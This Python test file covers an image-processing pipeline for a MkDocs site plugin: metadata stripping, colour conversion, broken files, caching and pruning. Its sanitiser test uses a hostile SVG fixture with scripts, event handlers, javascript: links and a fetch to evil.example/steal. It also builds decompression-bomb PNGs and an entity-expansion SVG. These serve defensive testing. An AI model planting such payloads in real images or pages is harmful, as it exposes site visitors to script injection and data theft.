"""The image pipeline: real images made with Pillow (and by hand, for hostile ones),
derived through `MediaProcessor`, read back with Pillow."""

from __future__ import annotations

import json
import os
import signal
import struct
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pillow_heif
from conftest import ROOT, make_image, make_project, make_site, read
from PIL import Image, ImageCms, ImageFile
from showcase.commands.prune import run_prune
from showcase.config import default_settings
from showcase.core.imaging import MAX_DECODED_PIXELS
from showcase.media.processor import MediaProcessor

# ---------------------------------------------------------------- helpers


def process(cache: Path, *items, jobs: int = 1):
    media = MediaProcessor(cache, jobs=jobs, progress=False)
    results, findings = media.process([(Path(p), kind) for p, kind in items])
    return media, results, findings


def only(findings, path: Path):
    mine = [f for f in findings if f.file == str(path)]
    assert len(mine) == 1, [f.format() for f in findings]
    assert mine[0].is_error
    return mine[0]


def rgb_close(pixel, expected, tolerance=24) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel[:3], expected, strict=True))


def center(img: Image.Image):
    return img.getpixel((img.width // 2, img.height // 2))


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def raw_png(width: int, height: int, color_type: int, depth: int, rows: bytes | None) -> bytes:
    """A PNG written by hand: 16-bit colour (Pillow cannot write it), or a header over
    far fewer pixels than it announces (a bomb, a damaged file)."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, 0)
    idat = zlib.compress(rows if rows is not None else b"\0" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def _s15(v: float) -> bytes:
    return struct.pack(">i", round(v * 65536))


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + b"\0" * 4 + _s15(x) + _s15(y) + _s15(z)


def icc_profile(cls: bytes, space: bytes, pcs: bytes, tags: list[tuple[bytes, bytes]]) -> bytes:
    """A minimal ICC v2 profile, so tests need no profile files from the system."""
    name = b"Test profile\0"
    tags = [
        (b"desc", b"desc" + b"\0" * 4 + struct.pack(">I", len(name)) + name + b"\0" * 78),
        (b"wtpt", _xyz(0.9642, 1.0, 0.8249)),
        (b"cprt", b"text" + b"\0" * 4 + b"none\0"),
        *tags,
    ]
    offset = 128 + 4 + 12 * len(tags)
    table = body = b""
    for sig, data in tags:
        data += b"\0" * (-len(data) % 4)
        table += sig + struct.pack(">II", offset + len(body), len(data))
        body += data
    header = (
        struct.pack(">I", offset + len(body))
        + b"\0" * 4
        + struct.pack(">I", 0x02100000)
        + cls
        + space
        + pcs
        + b"\0" * 12
        + b"acsp"
        + b"\0" * 28
        + _s15(0.9642)
        + _s15(1.0)
        + _s15(0.8249)
        + b"\0" * 48
    )
    return header + struct.pack(">I", len(tags)) + table + body


def swapped_rgb_profile() -> bytes:
    """An RGB profile whose red primary is sRGB's blue (and blue is red)."""
    curve = b"curv" + b"\0" * 4 + struct.pack(">IH", 1, 563) + b"\0\0"  # gamma 2.2
    return icc_profile(b"mntr", b"RGB ", b"XYZ ", [
        (b"rXYZ", _xyz(0.1431, 0.0606, 0.7141)),
        (b"gXYZ", _xyz(0.3851, 0.7169, 0.0971)),
        (b"bXYZ", _xyz(0.4361, 0.2225, 0.0139)),
        (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve),
    ])  # fmt: skip


def cmyk_profile() -> bytes:
    """A CMYK profile (lut8, 2-point grid) that renders unprinted paper as green, not white:
    only a real ICC conversion gives green; Pillow's plain CMYK→RGB gives white."""
    ident = bytes(range(256))
    matrix = b"".join(_s15(v) for v in (1, 0, 0, 0, 1, 0, 0, 0, 1))
    clut = b""
    for corner in range(16):
        lab = (87.7, -86, 83) if corner == 0 else (20, 0, 0)
        clut += bytes([round(lab[0] * 2.55), round(lab[1] + 128), round(lab[2] + 128)])
    a2b = b"mft1" + b"\0" * 4 + bytes([4, 3, 2, 0]) + matrix + ident * 4 + clut + ident * 3
    b2a = b"mft1" + b"\0" * 4 + bytes([3, 4, 2, 0]) + matrix + ident * 3 + bytes(32) + ident * 4
    return icc_profile(b"prtr", b"CMYK", b"Lab ", [(b"A2B0", a2b), (b"B2A0", b2a)])


def phone_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "TestPhone"
    exif[0x0110] = "Model X"
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 5.5), 3: "E", 4: (121.0, 28.0, 7.2)}  # GPS
    return exif


def derived_images(image_set):
    return [v for v in image_set.variants if v.format != "svg"]


# ---------------------------------------------------------------- metadata, orientation


def test_outputs_carry_no_metadata(tmp_path):
    src = tmp_path / "src"
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>GPSLatitude 31</rdf:RDF></x:xmpmeta>'
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    jpg = make_image(
        src / "gps.jpg",
        (1200, 900),
        exif=phone_exif(),
        xmp=xmp,
        icc_profile=srgb,
        comment=b"pupil names here",
    )
    png = make_image(src / "shot.png", (500, 400), exif=phone_exif().tobytes(), icc_profile=srgb)
    logo = make_image(src / "logo.png", (600, 600), exif=phone_exif().tobytes())
    with Image.open(jpg) as check:  # the source really carries it all
        assert (
            check.getexif().get_ifd(0x8825) and "xmp" in check.info and "icc_profile" in check.info
        )
    _, results, findings = process(
        tmp_path / "cache", (jpg, "photo"), (png, "photo"), (logo, "logo")
    )
    assert not findings
    for image_set in results.values():
        for variant in derived_images(image_set):
            raw = variant.path.read_bytes()
            with Image.open(variant.path) as out:
                out.load()
                assert not out.getexif(), variant.path
                for key in ("icc_profile", "xmp", "XML:com.adobe.xmp", "exif", "comment"):
                    assert key not in out.info, (key, variant.path)
                assert out.size == (variant.width, variant.height)
            assert b"TestPhone" not in raw and b"GPSLatitude" not in raw and b"pupil" not in raw


def test_orientation_is_applied(tmp_path):
    # stored landscape, Orientation=6 (rotate 90° clockwise to view): a portrait photo
    img = Image.new("RGB", (1800, 1200), (220, 20, 20))
    img.paste((20, 20, 220), (0, 0, 900, 1200))  # left half blue → top after rotating
    path = tmp_path / "portrait.jpg"
    img.save(path, exif=phone_exif(orientation=6), quality=95)
    _, results, findings = process(tmp_path / "cache", (path, "photo"))
    assert not findings
    image_set = results[path]
    assert (image_set.width, image_set.height) == (1200, 1800)
    for variant in derived_images(image_set):
        assert variant.height > variant.width
        with Image.open(variant.path) as out:
            assert out.size == (variant.width, variant.height)
            assert rgb_close(out.getpixel((out.width // 2, out.height // 5)), (20, 20, 220))
            assert rgb_close(out.getpixel((out.width // 2, out.height * 4 // 5)), (220, 20, 20))


def test_sizes_webp_and_fallbacks(tmp_path):
    big = make_image(tmp_path / "big.jpg", (4000, 3000), exif=phone_exif(), quality=90)
    small = make_image(tmp_path / "small.png", (500, 300))
    logo = make_image(tmp_path / "logo.jpg", (1000, 1000))
    media, results, findings = process(
        tmp_path / "cache", (big, "photo"), (small, "photo"), (logo, "logo")
    )
    assert not findings and media.decodes == 3
    photo = results[big]
    assert (photo.width, photo.height) == (4000, 3000)
    assert [(v.width, v.height) for v in photo.of("webp")] == [(400, 300), (800, 600), (1600, 1200)]
    assert [v.width for v in photo.of("jpeg")] == [400, 800, 1600]
    assert photo.fallback_format == "jpeg" and photo.pick("webp", 700).width == 800
    assert all(v.rel.startswith("assets/showcase/img/") for v in photo.variants)
    with Image.open(photo.pick("jpeg", 1600).path) as out:
        assert out.format == "JPEG" and out.size == (1600, 1200)
    with Image.open(photo.pick("webp", 400).path) as out:
        assert out.format == "WEBP"
    assert [v.width for v in results[small].of("webp")] == [400, 500]  # never upscaled
    assert [v.width for v in results[logo].of("png")] == [128, 192, 256, 320, 384, 512]
    assert results[logo].fallback_format == "png"


# ---------------------------------------------------------------- colour modes


def test_colour_modes_become_correct_rgb(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    cases = {}

    Image.new("CMYK", (300, 200), (0, 255, 255, 0)).save(src / "cmyk.jpg")
    cases["cmyk.jpg"] = (255, 0, 0)
    Image.new("CMYK", (300, 200), (0, 0, 0, 0)).save(
        src / "cmyk-icc.jpg", icc_profile=cmyk_profile()
    )
    cases["cmyk-icc.jpg"] = (0, 255, 0)  # the profile is honoured (paper → green)
    Image.new("RGB", (300, 200), (255, 0, 0)).save(
        src / "swapped.png", icc_profile=swapped_rgb_profile()
    )
    cases["swapped.png"] = (0, 0, 255)
    Image.new("I;16", (300, 200), 40000).save(src / "grey16.png")
    cases["grey16.png"] = (156, 156, 156)
    rows = b"".join(b"\0" + struct.pack(">HHH", 65535, 32768, 0) * 300 for _ in range(200))
    (src / "rgb16.png").write_bytes(raw_png(300, 200, 2, 16, rows))
    cases["rgb16.png"] = (255, 128, 0)
    pal = Image.new("P", (300, 200), 0)
    pal.putpalette([0, 128, 0] + [255, 255, 255] * 255)
    pal.save(src / "palette.gif")
    cases["palette.gif"] = (0, 128, 0)
    Image.new("L", (300, 200), 90).save(src / "grey.jpg")
    cases["grey.jpg"] = (90, 90, 90)
    Image.new("RGBA", (300, 200), (0, 0, 255, 0)).save(src / "transparent.png")
    cases["transparent.png"] = (255, 255, 255)  # a photo is flattened onto white
    heic = pillow_heif.from_pillow(Image.new("RGB", (640, 480), (0, 160, 60)))
    heic.save(src / "iphone.heic", quality=90)
    cases["iphone.heic"] = (0, 160, 60)

    _, results, findings = process(tmp_path / "cache", *((src / n, "photo") for n in cases))
    assert not findings, [f.format() for f in findings]
    for name, expected in cases.items():
        for variant in results[src / name].variants:
            with Image.open(variant.path) as out:
                assert out.mode == "RGB", (name, variant.format)
                assert rgb_close(center(out), expected), (name, variant.format, center(out))


def test_logo_keeps_transparency(tmp_path):
    pal = Image.new("P", (400, 400), 1)
    pal.putpalette([200, 16, 46, 0, 0, 0] + [0, 0, 0] * 254)
    pal.paste(0, (100, 100, 300, 300))
    path = tmp_path / "logo.png"
    pal.save(path, transparency=1)
    _, results, findings = process(tmp_path / "cache", (path, "logo"))
    assert not findings
    for variant in results[path].variants:
        with Image.open(variant.path) as out:
            assert out.mode == "RGBA"
            assert out.getpixel((2, 2))[3] == 0
            assert rgb_close(center(out), (200, 16, 46)) and center(out)[3] == 255


# ---------------------------------------------------------------- broken inputs


def test_each_broken_input_is_a_finding(tmp_path, monkeypatch):
    src = tmp_path / "photos"
    good = make_image(src / "good.jpg", (800, 600))
    whole = make_image(tmp_path / "whole.jpg", (800, 600)).read_bytes()
    png = make_image(tmp_path / "whole.png", (800, 600)).read_bytes()
    broken = {
        "empty.jpg": (b"", "空的"),
        "truncated.jpg": (whole[: len(whole) // 2], "不完整"),
        "truncated.png": (png[: len(png) // 3], "不完整"),
        "notes.jpg": ("会议记录：这不是照片".encode() * 20, "不是图片"),
        "page.png": (b"<html><body>hello</body></html>", "不是图片"),
        "garbage.jpg": (whole[:200] + os.urandom(5000), ""),
        # a 30000×30000 header over 64 bytes of data: Pillow refuses it on open
        "bomb.png": (raw_png(30000, 30000, 0, 1, None), "像素过多"),
        # 72 Mpx: under Pillow's limit, over ours; a decode would fail differently
        "bomb2.png": (raw_png(9000, 8000, 0, 8, None), "像素过多"),
    }
    for name, (data, _) in broken.items():
        (src / name).write_bytes(data)
    (src / "missing.jpg").symlink_to(src / "gone.jpg")
    items = [(good, "photo"), *((src / n, "photo") for n in broken), (src / "missing.jpg", "photo")]
    # the bombs are never decoded: no image over the limit is loaded (a spy, not a stopwatch)
    loaded = []
    load = ImageFile.ImageFile.load
    monkeypatch.setattr(
        ImageFile.ImageFile, "load", lambda img: loaded.append(img.size) or load(img)
    )
    monkeypatch.setenv("SHOWCASE_IMAGE_WORKERS", "0")  # in this process, where the spy is
    _, results, findings = process(tmp_path / "cache", *items)
    assert loaded and not [s for s in loaded if s[0] * s[1] > MAX_DECODED_PIXELS], loaded
    assert list(results) == [good]
    assert len(findings) == len(broken) + 1
    for name, (_, words) in broken.items():
        finding = only(findings, src / name)
        assert words in finding.message, (name, finding.message)
        assert "不会发布" in finding.message
    assert "无法读取" in only(findings, src / "missing.jpg").message


def test_broken_logo_names_the_logo_field(tmp_path):
    path = tmp_path / "logo.png"
    path.write_bytes(b"GIF89a not really")
    _, results, findings = process(tmp_path / "cache", (path, "logo"))
    assert not results and only(findings, path).field == "logo"


# ---------------------------------------------------------------- SVG


HOSTILE_SVG = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     viewBox="0 0 200 100" onload="alert('svg')" inkscape:version="1.0">
  <metadata><author>张老师</author></metadata>
  <script type="text/javascript">fetch('https://evil.example/steal')</script>
  <style>@import url(https://evil.example/a.css); .c { fill: url(https://evil.example/p.svg#g) }</style>
  <rect width="200" height="100" fill="#c8102e" onclick="steal()" onmouseover="x()"/>
  <a href="javascript:alert(1)"><circle class="c" cx="10" cy="10" r="5"/></a>
  <image xlink:href="https://evil.example/track.png" width="10" height="10"/>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use xlink:href="#star"/>
  <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <animate attributeName="href" to="javascript:alert(2)"/>
  <circle id="star" cx="100" cy="50" r="30" fill="#f2c14e" style="stroke: url('http://evil.example/s')"/>
</svg>
"""


def test_svg_logo_is_sanitised_and_rasterised(tmp_path):
    path = tmp_path / "logo.svg"
    path.write_text(HOSTILE_SVG, encoding="utf-8")
    _, results, findings = process(tmp_path / "cache", (path, "logo"))
    assert not findings
    image_set = results[path]
    clean = image_set.svg.path.read_text(encoding="utf-8").lower()
    for bad in (
        "script",
        "onload",
        "onclick",
        "onmouseover",
        "evil.example",
        "foreignobject",
        "javascript",
        "@import",
        "<animate",
        "张老师",
        "inkscape",
        "<a ",
    ):
        assert bad not in clean, bad
    assert "<rect" in clean and "#star" in clean and "<circle" in clean
    assert image_set.svg.rel.endswith(".svg")
    assert [v.width for v in image_set.of("png")] == [128, 192, 256, 320, 384, 512]
    assert image_set.pick("png", 256).height == 128  # the viewBox's 2:1
    with Image.open(image_set.pick("png", 512).path) as out:
        assert out.mode in ("RGB", "RGBA")
        assert rgb_close(out.getpixel((10, 60)), (200, 16, 46))
        assert rgb_close(center(out), (242, 193, 78))


def test_svg_with_entities_is_refused(tmp_path):
    laughs = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>"""
    bad = tmp_path / "laughs.svg"
    bad.write_text(laughs)
    photo_svg = tmp_path / "photo.svg"
    photo_svg.write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    _, results, findings = process(tmp_path / "cache", (bad, "logo"), (photo_svg, "photo"))
    assert not results
    assert "实体" in only(findings, bad).message
    assert "SVG" in only(findings, photo_svg).message


# ---------------------------------------------------------------- cache


def test_cache_is_reused_and_keyed_by_content(tmp_path):
    cache = tmp_path / "cache"
    photos = [
        make_image(tmp_path / f"p{i}.jpg", (900, 600), color=(20 * i, 60, 90)) for i in range(3)
    ]
    broken = tmp_path / "broken.jpg"
    broken.write_bytes(b"not an image at all" * 10)
    items = [(p, "photo") for p in [*photos, broken]]
    first, results, findings = process(cache, *items)
    assert first.decodes == 4 and len(results) == 3 and len(findings) == 1

    again, results2, findings2 = process(cache, *items)  # a new build process
    assert again.decodes == 0
    assert results2 == results and findings2 == findings  # the broken photo's finding too

    os.utime(photos[0], (1, 1))  # touched (e.g. a fresh git checkout): hashed, not decoded
    (cache / "index.json").unlink()
    touched, _, _ = process(cache, *items)
    assert touched.decodes == 0

    make_image(photos[1], (900, 600), color=(250, 250, 0))  # really changed
    changed, results3, _ = process(cache, *items)
    assert changed.decodes == 1
    assert results3[photos[1]].key != results[photos[1]].key
    assert results3[photos[0]] == results[photos[0]]

    # the same processor (as in `mkdocs serve`) answers from memory
    changed.decodes = 0
    changed.process(items)
    assert changed.decodes == 0

    # the same bytes as a logo are another entry (other sizes and formats)
    logo, logo_results, _ = process(cache, (photos[2], "logo"))
    assert logo.decodes == 1 and logo_results[photos[2]].key != results[photos[2]].key


def test_parallel_workers(tmp_path):
    photos = [
        make_image(tmp_path / f"p{i:02}.jpg", (900, 600), color=(20 * i, 80, 160)) for i in range(8)
    ]
    bad = tmp_path / "bad.jpg"
    bad.write_bytes(b"\xff\xd8\xff\xe0 definitely not a jpeg" * 50)
    twin = tmp_path / "copy-of-p03.jpg"
    twin.write_bytes(photos[3].read_bytes())
    items = ((p, "photo") for p in [*photos, bad, twin])
    media, results, findings = process(tmp_path / "cache", *items, jobs=2)
    assert media.decodes == 9 and len(results) == 9  # the copy is derived once
    assert results[twin] == results[photos[3]]
    assert "不是图片" in only(findings, bad).message or "损坏" in only(findings, bad).message
    for path in photos:
        assert results[path].pick("webp", 1600).width == 900


KILLED_BUILD = """
import sys
from pathlib import Path
from showcase.media.processor import MediaProcessor
src, cache = Path(sys.argv[1]), Path(sys.argv[2])
items = [(p, "photo") for p in sorted(src.glob("*.jpg"))]
MediaProcessor(cache, jobs=2, progress=False).process(items)
"""


def entries(cache: Path) -> list[Path]:
    """Finished cache entries: their manifests (a temporary file starts with .tmp-)."""
    return [p for p in cache.glob("*/*.json") if not p.name.startswith(".tmp-")]


def test_build_killed_halfway_leaves_only_complete_entries(tmp_path):
    src, cache = tmp_path / "src", tmp_path / "cache"
    photos = [
        make_image(src / f"p{i:02}.jpg", (1600, 1000), color=(12 * i, 90, 140)) for i in range(16)
    ]
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_BUILD, str(src), str(cache)],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            if len(entries(cache)) >= 3:
                break
            time.sleep(0.01)
        assert proc.poll() is None, proc.stderr.read().decode()
        os.killpg(proc.pid, signal.SIGKILL)  # the build and its workers, mid-write
    finally:
        proc.wait()
    manifests = entries(cache)
    assert 3 <= len(manifests) < len(photos)
    for file in cache.rglob("*"):
        if file.is_dir() or file.name.startswith(".tmp-") or file.name == "index.json":
            continue
        if file.suffix == ".json":
            entry = json.loads(file.read_text())
            assert all((file.parent / name).is_file() for name, *_ in entry["variants"])
        else:
            with Image.open(file) as img:
                img.load()  # complete: decodes to the end

    again = MediaProcessor(cache, jobs=2, progress=False)
    results, findings = again.process([(p, "photo") for p in photos])
    assert not findings and len(results) == len(photos)
    assert again.decodes == len(photos) - len(manifests)  # finished entries are kept
    assert not list(cache.rglob(".tmp-*"))  # the dead build's leftovers are gone


# ---------------------------------------------------------------- real MkDocs builds


def _mkdocs_build(config_file: Path, *, new_process: bool = False):
    """Like conftest.build, but returns the plugin's media processor to read its counters.

    MkDocs keeps the plugin instance between builds in one Python process (as in
    `mkdocs serve`); `new_process` drops its processor, as a new `mkdocs build` starts."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    cfg = load_config(str(config_file))
    plugin = cfg.plugins["showcase"]
    if new_process:
        plugin.media = None
    cfg.plugins.on_startup(command="build", dirty=False)
    try:
        mkdocs_build(cfg)
    finally:
        cfg.plugins.on_shutdown()
    return Path(cfg.site_dir), plugin.media


def test_real_build_uses_derived_images_and_the_cache(site_root):
    project = make_project(site_root / "projects", "qinghe")
    album = project / "photos" / "2025-03-05 学雷锋志愿服务"
    for i in range(3):
        make_image(
            album / f"0{i}-志愿服务{i}.jpg",
            (1800, 1200),
            color=(100 + 40 * i, 40, 40),
            exif=phone_exif(orientation=6),
        )
    # every chunk and checksum valid, too few pixels inside: only decoding finds out
    (album / "99-损坏的照片.png").write_bytes(raw_png(800, 600, 2, 8, b"\0" * 1000))
    config = make_site(site_root)

    site, media = _mkdocs_build(config)
    assert media.decodes == 5  # logo, three photos, the corrupt one
    published = [p for p in (site / "assets/showcase/img").rglob("*") if p.is_file()]
    assert len(published) == 3 * 6 + 12  # photos: 3 sizes × 2 formats; logo: 6 sizes × 2
    for path in published:
        with Image.open(path) as img:
            assert not img.getexif() and "icc_profile" not in img.info
    html = "".join(
        read(site, str(p.relative_to(site))) for p in (site / "projects").rglob("*.html")
    )
    assert 'type="image/webp"' in html and 'loading="lazy"' in html
    assert "损坏的照片" not in html  # left out, the rest of the album stays
    assert "99-损坏的照片.png" not in "".join(p.name for p in site.rglob("*"))

    before = media.decodes
    site, media = _mkdocs_build(config)  # a `mkdocs serve` rebuild, nothing changed
    assert media.decodes - before == 0
    site, media = _mkdocs_build(config, new_process=True)  # a new `mkdocs build`
    assert media.decodes == 0
    assert len([p for p in (site / "assets/showcase/img").rglob("*") if p.is_file()]) == len(
        published
    )


def test_prune_deletes_entries_no_project_uses(site_root, capsys):
    project = make_project(site_root / "projects", "qinghe")
    album = project / "photos" / "2025-01-01 活动"
    keep = make_image(album / "keep.jpg", (600, 400), color=(10, 200, 10))
    drop = make_image(album / "drop.jpg", (1700, 300), color=(200, 10, 10))
    cache = site_root / ".cache" / "images"
    _, results, _ = process(cache, (keep, "photo"), (drop, "photo"), (project / "logo.png", "logo"))
    drop.unlink()
    settings = default_settings(
        sources=["projects"], base_dir=site_root, cache_dir=str(site_root / ".cache")
    )
    assert run_prune(settings) == 0
    out = capsys.readouterr().out
    assert "删除 7 个" in out and "保留" in out
    assert all(v.path.is_file() for v in results[keep].variants)
    assert not any(v.path.exists() for v in results[drop].variants)
    again, _, _ = process(cache, (keep, "photo"), (project / "logo.png", "logo"))
    assert again.decodes == 0


def test_cli_prune(site_root):
    make_project(site_root / "projects", "qinghe")
    make_site(site_root)
    cache = site_root / ".cache" / "images"
    stale = make_image(site_root / "old.jpg", (1700, 300))
    process(cache, (stale, "photo"))
    result = subprocess.run(
        [sys.executable, "-m", "showcase.commands.cli", "cache", "prune"],  # wherever the venv is
        cwd=site_root,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "已清理图片缓存" in result.stdout and "删除 7 个" in result.stdout
    assert not list(cache.glob("*/*.webp"))


def test_bench_script_runs(tmp_path):
    """The benchmark's own smoke test: a tiny run, no Hugo, finishes and prints its table."""
    result = subprocess.run(
        [
            sys.executable,
            str(ROOT / "scripts/bench_images.py"),
            "--count",
            "3",
            "--size",
            "800x600",
            "--dir",
            str(tmp_path / "bench"),
            "--no-hugo",
            "--no-site",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "张/秒" in result.stdout and "预热重建" in result.stdout
    assert result.stdout.count("\n") > 5
